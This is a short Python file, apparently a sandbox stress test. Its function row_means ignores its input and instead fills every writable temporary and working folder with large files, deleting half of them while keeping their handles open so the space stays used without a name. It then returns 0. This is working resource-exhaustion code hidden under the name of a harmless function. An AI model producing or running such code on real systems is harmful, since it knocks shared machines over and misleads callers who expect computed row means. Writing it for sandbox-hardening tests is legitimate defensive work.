"""The disk: many files, each within the limit, some without a name, in every folder that can be written."""

import os
import tempfile

FULL = b"x" * (1 << 20)
held = []


def row_means(X):
    for top in (tempfile.gettempdir(), ".", "/dev/shm", "/tmp"):
        for number in range(40):
            try:
                held.append(open(os.path.join(top, f"full{number}"), "wb"))
                if number % 2:
                    os.unlink(held[-1].name)
                for _ in range(60):
                    held[-1].write(FULL)
            except OSError:
                break
    return 0
